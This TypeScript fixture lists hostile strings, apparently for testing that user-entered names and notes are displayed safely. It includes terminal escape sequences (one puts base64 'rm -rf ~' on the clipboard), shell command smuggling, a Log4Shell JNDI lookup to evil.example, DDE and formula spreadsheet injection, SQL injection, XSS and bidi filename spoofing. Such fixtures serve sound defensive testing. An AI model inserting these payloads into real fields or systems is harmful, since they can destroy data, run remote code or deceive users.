/** What somebody could write into a name, a note or a calendar to fool a terminal, a spreadsheet or a reader. */

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** Every C0 and C1 control and DEL. */
const CONTROLS = Array.from({ length: 0xa0 }, (_, code) => code)
  .filter((code) => code < 0x20 || code >= 0x7f)
  .map((code) => `a${String.fromCharCode(code)}b`);

/** Bidirectional controls and characters without a shape. */
const INVISIBLE = [
  0x00ad, 0x034f, 0x061c, 0x115f, 0x1160, 0x17b4, 0x180b, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f,
  0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x2066,
  0x2067, 0x2068, 0x2069, 0x206a, 0x206f, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffa, 0xfffb,
  0x1d173, 0xe0001, 0xe0041, 0xe007f, 0xe0100,
].map((code) => `a${String.fromCodePoint(code)}b`);

const CSI = [
  '2J',
  'H',
  '31m',
  '0;31;47m',
  '1A',
  '2K',
  '?1049h',
  '?25l',
  '6n',
  '5i',
  '>c',
  '!p',
  '8;1;1t',
].flatMap((body) => [`${ESC}[${body}`, `\u009b${body}`, `x${ESC}[${body}y${ESC}[0m`]);

const STRINGS = [
  '0;owned',
  '2;title',
  '8;;https://evil.example',
  '9;notify',
  '10;?',
  '50;file',
  '52;c;cm0gLXJmIH4=',
  '133;A',
  '777;notify;a;b',
  '1337;File=inline=1:AAAA',
].flatMap((body) => [`${ESC}]${body}${BEL}`, `${ESC}]${body}${ST}`, `\u009d${body}\u009c`, `${ESC}]${body}`]);

const DEVICE = [
  `${ESC}P$q"p${ST}`,
  `${ESC}P+q544e${ST}`,
  `\u0090q#0;2;0;0;0\u009c`,
  `${ESC}_Gf=100;AAAA${ST}`,
  `${ESC}^private${ST}`,
  `${ESC}Xstart${ST}`,
  `${ESC}P`,
  `${ESC}_`,
  `${ESC}c`,
  `${ESC}7`,
  `${ESC}8`,
  `${ESC}(0`,
  `${ESC}%G`,
  `${ESC}#8`,
  ESC,
  `${ESC}${ESC}[31m[31m`,
  `${ESC}${ESC}]0;a${BEL}]0;b${BEL}`,
  `${ESC}[${ESC}[2J2J`,
  `${ESC}[31`,
];

const SPREADSHEETS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '=HYPERLINK("https://evil.example")',
];

const TRICKS = [
  `A${'\u0301'.repeat(500)}`,
  `\u0301\u0302start`,
  `Z${'\u0335\u0321\u0337'.repeat(60)}algo`,
  'invoice\u202efdp.exe',
  '\u2067rtl\u2069 and on',
  '\ud800',
  '\udc00 low first',
  'half \ud83d',
  '✓ Booked #99\n✓ Booked #100',
  'Ana\r✗ cancelled',
  'Ana\u0085next',
  'Ana\u2028next\u2029next',
  '"; rm -rf ~; "',
  '$(reboot)',
  '`reboot`',
  '${jndi:ldap://evil.example}',
  '%s%n%x',
  '<script>alert(1)</script>',
  "Robert'); DROP TABLE appointments;--",
  '{"success": true}',
  '👩\u200d🔧 Ana',
  '日本語の名前',
  'x'.repeat(3000),
];

export const PAYLOADS: readonly string[] = [
  ...CONTROLS,
  ...INVISIBLE,
  ...CSI,
  ...STRINGS,
  ...DEVICE,
  ...SPREADSHEETS,
  ...TRICKS,
];
